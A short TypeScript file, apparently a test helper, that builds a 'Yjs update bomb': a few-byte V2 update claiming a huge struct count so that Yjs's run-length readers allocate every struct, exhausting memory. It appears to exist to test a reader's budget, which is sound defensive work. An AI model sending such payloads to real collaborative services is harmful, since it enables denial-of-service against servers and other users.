// A Yjs V2 update of a few bytes that claims `structs` structs and holds one: Yjs's run-length
// readers repeat the last value for ever, so a reader without a budget builds every one of them.
// What a member's modified app could sign and send.
import * as encoding from 'lib0/encoding';
import * as Y from 'yjs';

export function yjsUpdateBomb(structs: number): Uint8Array {
  const encoder = new Y.UpdateEncoderV2();
  encoding.writeVarUint(encoder.restEncoder, 1); // one client
  encoding.writeVarUint(encoder.restEncoder, structs);
  encoder.writeClient(1);
  encoding.writeVarUint(encoder.restEncoder, 0); // from clock 0
  encoder.writeInfo(0); // a GC struct…
  encoder.writeLen(1); // …of length 1, repeated by the readers
  encoding.writeVarUint(encoder.restEncoder, 0); // no deletions
  return encoder.toUint8Array();
}
